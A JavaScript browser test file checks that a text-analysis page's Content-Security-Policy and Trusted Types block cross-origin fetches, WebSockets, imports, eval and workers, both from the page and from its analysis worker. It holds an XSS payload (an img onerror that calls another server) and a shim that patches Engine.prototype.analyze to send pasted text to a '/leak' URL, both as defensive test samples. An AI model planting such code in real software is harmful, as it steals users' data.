// This file tests the page's policy (its Content-Security-Policy and Trusted Types) where it
// matters: in the page and inside the analysis worker, which holds every pasted text, on the
// hosted page and on the offline file. From both, a cross-origin fetch, a WebSocket, an
// import() of another server's script, eval and new Function are all refused, and a second
// loopback server (another origin, listening for HTTP and WebSocket upgrades) sees nothing.
// On the hosted page even a fetch of its own origin is refused but for the wasm module
// (boot.js narrows connect-src). Two deliberate regressions show that a bug of that kind
// cannot pass the browser tests: writing pasted text with innerHTML throws (Trusted Types)
// and a fetch of the pasted text from the worker is blocked; both are said on the console,
// where every browser test looks for errors.

import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { createServer } from "node:http";
import { after, before, test } from "node:test";
import { pathToFileURL } from "node:url";
import { appendToGlue, fillArticle, openPage, REPO_ROOT, useSite, waitForAnalysed } from "./harness.mjs";

const env = useSite("/");

/** A server on another port (so another origin) that counts every request and upgrade it gets. */
const other = { server: null, url: "", hits: [] };

before(async () => {
  other.server = createServer((request, response) => {
    other.hits.push(`${request.method} ${request.url}`);
    response.writeHead(200, { "content-type": "text/javascript", "access-control-allow-origin": "*" });
    response.end("globalThis.reached = true;");
  });
  other.server.on("upgrade", (request, socket) => {
    other.hits.push(`upgrade ${request.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => other.server.listen(0, "127.0.0.1", resolve));
  other.url = `http://127.0.0.1:${other.server.address().port}`;
});

after(async () => {
  other.server?.closeAllConnections?.();
  await new Promise((resolve) => other.server?.close(resolve) ?? resolve());
});

/**
 * Tries, in whatever realm it is evaluated in (the page or a worker), each way out that the
 * policy must refuse; resolves to a map from the attempt to "refused (<error name>)" or
 * "ran"/"connected" when it was let through. `otherUrl` is the other server; `sameOrigin` a
 * URL of the page's own origin that is not the wasm module (null to skip that attempt).
 */
async function tryWaysOut({ otherUrl, sameOrigin }) {
  const outcome = {};
  const refused = (err) => `refused (${err?.name ?? typeof err}: ${err?.message})`;
  const attempt = async (name, run) => {
    try {
      outcome[name] = await run();
    } catch (err) {
      outcome[name] = refused(err);
    }
  };
  await attempt("fetch another origin", async () => {
    await fetch(`${otherUrl}/fetched`);
    return "ran";
  });
  if (sameOrigin !== null) {
    await attempt("fetch its own origin", async () => {
      await fetch(sameOrigin);
      return "ran";
    });
  }
  await attempt("WebSocket", () => {
    const socket = new WebSocket(`${otherUrl.replace("http", "ws")}/socket`);
    return new Promise((resolve) => {
      socket.onopen = () => resolve("connected");
      socket.onerror = () => resolve("refused (error event)");
    });
  });
  await attempt("import()", async () => {
    await import(`${otherUrl}/imported.js`);
    return "ran";
  });
  await attempt("eval", () => {
    // biome-ignore lint/security/noGlobalEval: the policy must refuse exactly this.
    globalThis.eval("1 + 1");
    return "ran";
  });
  await attempt("new Function", () => {
    new Function("return 1")();
    return "ran";
  });
  await attempt("a worker from a string URL", () => {
    new Worker(`${otherUrl}/worker.js`);
    return "ran";
  });
  return outcome;
}

/** Every attempt of tryWaysOut refused, and the other server reached by none. */
function assertAllRefused(outcome, where) {
  const through = Object.entries(outcome).filter(([, result]) => !result.startsWith("refused"));
  assert.deepEqual(through, [], `${where}: let through`);
  assert.ok(Object.keys(outcome).length >= 6, `${where}: every attempt was made`);
  assert.deepEqual(other.hits, [], `${where}: the other server was reached`);
}

/** The page's analysis worker (worker.js, not the short-lived decoder), once it has loaded. */
async function analysisWorker(page) {
  for (let i = 0; i < 100; i += 1) {
    for (const worker of page.workers()) {
      if (await worker.evaluate(() => typeof self.onmessage === "function" && self.name !== "").catch(() => false)) {
        return worker;
      }
    }
    await page.waitForTimeout(100);
  }
  throw new Error("no analysis worker appeared");
}

/** Runs the example pair on `page` so that every script of the page and the worker has loaded. */
async function runOnce(page) {
  await fillArticle(page, "a", { text: "Mayor Lena Ortiz visited Kati on Monday." });
  await fillArticle(page, "b", { text: "Lena Ortiz left Kati." });
  await page.getByRole("button", { name: "Analyze" }).click();
  await waitForAnalysed(page);
}

test("on the hosted page, the page and its analysis worker can reach nothing but the wasm module", {
  timeout: 60_000,
}, async () => {
  other.hits.length = 0;
  const { page, errors } = await openPage(env.browser, env.url);
  await runOnce(page);
  assert.deepEqual(errors, [], "the page itself breaks none of its policy");

  const args = { otherUrl: other.url, sameOrigin: `${env.url}index.html` };
  const fromPage = await page.evaluate(tryWaysOut, args);
  assertAllRefused(fromPage, "from the page");
  const worker = await analysisWorker(page);
  assert.match(worker.url(), /^blob:/, "the worker started from a blob: bootstrap, so it inherits the policy");
  const fromWorker = await worker.evaluate(tryWaysOut, args);
  assertAllRefused(fromWorker, "from the worker");
  // Trusted Types hold in both: a string is no script URL.
  for (const outcome of [fromPage, fromWorker]) {
    assert.match(outcome["a worker from a string URL"], /TrustedScriptURL/);
  }

  // Each refusal was said on the console, from the page and from the worker (Chromium raises
  // no violation event in a worker for eval or a Trusted Types sink: those refusals are
  // thrown only, as above).
  const said = [
    ["", "connect-src"],
    ["", "script-src-elem"],
    ["", "require-trusted-types-for"],
    [" in the analysis worker", "connect-src"],
    [" in the analysis worker", "script-src-elem"],
  ];
  for (const [where, directive] of said) {
    assert.ok(
      errors.some((e) => e.includes(`the page's policy blocked`) && e.endsWith(`${where} (${directive})`)),
      `a ${directive} violation${where} on the console: ${errors.join("\n")}`,
    );
  }
  // The page still works after all that.
  await page.getByRole("button", { name: "Analyze" }).click();
  await waitForAnalysed(page);
});

test("the offline file's page and worker can reach nothing at all", { timeout: 60_000 }, async (t) => {
  const file = `${REPO_ROOT}dist/parallax.html`;
  if (!existsSync(file)) t.skip("dist/parallax.html is not built (bash scripts/build.sh)");
  other.hits.length = 0;
  const { page, errors } = await openPage(env.browser, pathToFileURL(file).href);
  await runOnce(page);
  assert.deepEqual(errors, [], "the offline page itself breaks none of its policy");
  const args = { otherUrl: other.url, sameOrigin: null };
  assertAllRefused(await page.evaluate(tryWaysOut, args), "from the offline page");
  const worker = page.workers().find((w) => w.url().startsWith("blob:"));
  assert.ok(worker, "the offline worker runs from a blob: URL");
  assertAllRefused(await worker.evaluate(tryWaysOut, args), "from the offline worker");
});

/** Pasted text that would run script and call the other server if it were ever parsed as HTML. */
const payload = (otherUrl) =>
  `<img src="${otherUrl}/img" onerror="globalThis.pwned = true; fetch('${otherUrl}/onerror')">`;

test("a regression that writes pasted text as HTML throws and is said on the console; the payload never runs", {
  timeout: 60_000,
}, async () => {
  other.hits.length = 0;
  const { page, errors } = await openPage(env.browser, env.url);
  await fillArticle(page, "a", { text: payload(other.url) });
  await fillArticle(page, "b", { text: "Lena Ortiz left Kati." });
  // What a careless edit of the page's code would do with the text of a card.
  const thrown = await page.evaluate(() => {
    try {
      document.querySelector("#results").innerHTML = document.querySelector("textarea").value;
      return "written";
    } catch (err) {
      return err.name;
    }
  });
  assert.equal(thrown, "TypeError", "Trusted Types refuse a string for innerHTML");
  await page.waitForTimeout(300);
  assert.equal(await page.evaluate(() => globalThis.pwned ?? false), false);
  assert.ok(
    errors.some((e) => /the page's policy blocked .*\(require-trusted-types-for\)$/.test(e)),
    `the refusal is on the console, so every browser test that checks for errors would fail: ${errors.join("\n")}`,
  );
  assert.deepEqual(other.hits, []);
});

// Appended to the served wasm glue: a worker that sends each pasted text to another server,
// as a regression (or a compromised dependency) would.
const LEAK = (otherUrl) => `
const realAnalyze = Engine.prototype.analyze;
Engine.prototype.analyze = function analyze(input, id) {
  fetch(${JSON.stringify(`${otherUrl}/leak?text=`)} + encodeURIComponent(input.articles[0].text)).catch(() => {});
  return realAnalyze.call(this, input, id);
};
`;

test("a regression that sends the pasted text from the worker is blocked and said on the console", {
  timeout: 60_000,
}, async () => {
  other.hits.length = 0;
  const { page, errors } = await openPage(env.browser, env.url, { beforeGoto: appendToGlue(LEAK(other.url)) });
  await runOnce(page);
  await page.waitForTimeout(300);
  assert.deepEqual(other.hits, [], "nothing reached the other server");
  assert.ok(
    errors.some(
      (e) => e.includes(`the page's policy blocked ${other.url}/leak`) && e.includes("in the analysis worker"),
    ),
    `the blocked fetch is on the console, so every browser test that checks for errors would fail: ${errors.join("\n")}`,
  );
});
